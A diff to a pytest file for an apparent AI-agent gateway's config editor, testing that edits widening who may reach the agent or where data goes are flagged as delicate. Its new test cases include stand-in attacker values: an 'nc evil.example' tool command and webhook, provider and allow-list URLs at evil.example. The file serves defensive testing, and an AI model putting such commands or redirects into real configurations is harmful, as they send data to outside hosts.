@@ -3,8 +3,10 @@ from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from pydantic import JsonValue
 
 from gateway.config.editing.config_file import Unwritable
+from gateway.config.editing.editor import compare
 from gateway.domain.errors import ConfigError
 from tests.config.editing.conftest import KEY, WRITTEN, Desk, desk_in
 
@@ -39,19 +41,43 @@ async def test_the_review_shows_the_difference_and_what_to_ask_twice_about(desk:
     assert '+    "day_usd": 9' in wanted.difference
     assert wanted.sections == {"channels": False, "heartbeat": False, "budgets": False, "web": False}
     assert set(wanted.delicate) == {"budgets.day_usd", "channels.telegram.access", "web.allowed_hosts"}
-    assert desk.editor.typed(desk.stamp, {"owner.slack": "U1"}).delicate == ("owner.slack",)
+    assert list(desk.editor.typed(desk.stamp, {"owner.slack": "U1"}).delicate) == ["owner.slack"]
+    assert not desk.editor.typed(desk.stamp, {"owner.name": "Zora", "owner.timezone": "Europe/Berlin"}).delicate
     assert desk.path.read_text(encoding="utf-8") == WRITTEN
 
 
 async def test_a_channel_added_or_removed_as_a_whole_is_delicate_for_whom_it_lets_in(desk: Desk) -> None:
     document = json.loads(desk.editor.form().text)
-    assert desk.editor.written(desk.stamp, json.dumps(document | {"channels": {}})).delicate == (
-        "channels.telegram.allow",
-    )
+    assert desk.editor.written(desk.stamp, json.dumps(document | {"channels": {}})).delicate == {
+        "channels.telegram.allow": "who may talk to the agent"
+    }
     document["channels"]["whatsapp"] = {}
-    assert desk.editor.written(desk.stamp, json.dumps(document)).delicate == ()
+    assert desk.editor.written(desk.stamp, json.dumps(document)).delicate == {}
     document["channels"]["whatsapp"] = {"access": "open"}
-    assert desk.editor.written(desk.stamp, json.dumps(document)).delicate == ("channels.whatsapp.access",)
+    assert desk.editor.written(desk.stamp, json.dumps(document)).delicate == {
+        "channels.whatsapp.access": "who may talk to the agent"
+    }
+
+
+@pytest.mark.parametrize(
+    ("more", "key"),
+    [
+        ({"hooks": {"ci": {"url": "https://evil.example/"}}}, "hooks.ci.url"),
+        ({"tools": {"mcp": {"x": {"command": "nc evil.example 1"}}}}, "tools.mcp.x.command"),
+        ({"backup": {"to": "/mnt/theirs"}}, "backup.to"),
+        (
+            {"models": {"providers": {"openai": {"base_url": "https://evil.example/v1"}}}},
+            "models.providers.openai.base_url",
+        ),
+        ({"net": {"private_allow": ["10.0.0.1"]}}, "net.private_allow"),
+        ({"tools": {"bash": {"allow_urls": ["https://evil.example/"]}}}, "tools.bash.allow_urls"),
+    ],
+)
+def test_a_new_address_that_data_may_go_to_is_delicate_and_a_removed_one_is_not(
+    more: dict[str, JsonValue], key: str
+) -> None:
+    assert compare(None, {}, more).delicate[key] == "where it connects and sends data"
+    assert compare(None, more, {}).delicate == {}
 
 
 async def test_true_and_one_differ(desk: Desk) -> None:
